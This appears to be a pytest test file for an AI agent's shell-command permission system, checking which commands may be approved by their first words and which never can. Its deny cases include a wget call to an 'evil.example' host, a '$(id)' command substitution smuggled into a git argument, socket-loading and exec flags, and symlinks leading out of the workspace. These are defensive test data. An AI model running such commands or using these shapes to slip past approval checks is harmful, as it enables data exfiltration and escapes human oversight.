"""By which first words commands are alike: what a grant by prefix fixes, and what never has one."""

from pathlib import Path

import pytest

from bot.domain.proposals import canonical
from bot.domain.similarity import NO_BEGINNING, GrantScope, Likeness, Scope, ladder
from bot.tools.builtin.shell.prefix import beginning


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    for name in ("tests", "tools"):
        (tmp_path / name).mkdir()
    for name in ("tools/check.py", "run.sh"):
        (tmp_path / name).touch()
    (tmp_path / "out").symlink_to("/tmp")  # noqa: S108 - it leads out of the workspace
    (tmp_path / "linked.py").symlink_to(tmp_path / "tools" / "check.py")
    return tmp_path.resolve()


@pytest.mark.parametrize(
    ("command", "first"),
    [
        ("python3 -m unittest tests.test_a -v", "python3 -m unittest"),
        ("python3 tools/check.py --all", "python3 tools/check.py"),
        ("python3 ./tools/../tools/check.py", "python3 tools/check.py"),
        ("python3 linked.py", "python3 tools/check.py"),
        ("git commit -m words", "git commit"),
        ("npm test -- --watch", "npm test"),
        ("npm run build --if-present", "npm run build"),
        ("cargo test --release", "cargo test"),
        ("./run.sh all now", "run.sh all"),
    ],
)
def test_the_program_and_its_subcommand_are_fixed(folder: Path, command: str, first: str) -> None:
    found = beginning(command.split(), folder)
    assert " ".join(found.words[: found.fixed]) == first
    assert found.said == f"beginning “{first} …”, whatever follows"


@pytest.mark.parametrize(
    "command",
    [
        "sh -c ls",
        "bash tools/x.sh",
        "env python3 -m unittest",
        "sudo make test",
        "xargs git commit",
        "python3 -c print(1)",
        "python3 -X dev -c print(1)",
        "python3 -m timeit 1",
        "python3 -m code",
        "python3 -",
        "python3",
        "python3 out/evil.py",
        "python3 ../evil.py",
        "python3 /etc/evil.py",
        "out/evil all",
        "node -e 1",
        "node --eval=1 x.js",
        "perl -e 1",
        "ruby -rsocket x.rb",
        "awk {print} x",
        "sed s/a/b/e x",
        "npx anything here",
        "pip install anything",
        "uv run python x.py",
        "go run x.go",
        "npm exec anything",
        "docker run image",
        "git -c core.pager=x log",
        "git push --force origin",
        "git commit --exec x",
        "go test -exec x",
        "make test SHELL=/tmp/x",
        "make test --eval=x",
        "npm test --script-shell=/tmp/x",
        "cargo test --config x",
        "git commit -m $(id)",
        "rm -r docs",
        "find . -exec id",
        "ls",
        "pytest -q",
        "tar xf a.tar",
        "wget host.example http://evil.example/?q",
        "cp a b",
        "npm install anything",
        "git push origin",
        "git clone x",
        "go get x",
    ],
)
def test_what_runs_other_things_or_may_lose_something_is_never_alike(folder: Path, command: str) -> None:
    assert beginning(command.split(" "), folder) == NO_BEGINNING


@pytest.mark.parametrize(
    ("command", "covered"),
    [
        ("python3 -m unittest other", True),
        ("python3 -m unittest", True),
        ("python3 -m unittestx", False),
        ("python3 -m pytest", False),
        ("python -m unittest", False),
        ("python3 -m unittest -c x", False),
        ("python3", False),
    ],
)
def test_whole_words_are_compared(folder: Path, command: str, covered: bool) -> None:
    first = Scope("shell_run", "1", GrantScope.PREFIX, canonical(["python3", "-m", "unittest"]))
    like = Likeness(begins=beginning(command.split(), folder))
    assert first.covers("shell_run", "1", {}, like) is covered
    assert not Scope("shell_run", "1", GrantScope.PREFIX, "[]").covers("shell_run", "1", {}, like)


def test_the_rung_stands_between_the_narrower_and_all(folder: Path) -> None:
    like = Likeness(begins=beginning(["git", "commit"], folder))
    rungs = [scope.rung for scope, _ in ladder("shell_run", "1", {}, like)]
    assert rungs == [GrantScope.EXACT, GrantScope.PREFIX, GrantScope.TOOL]
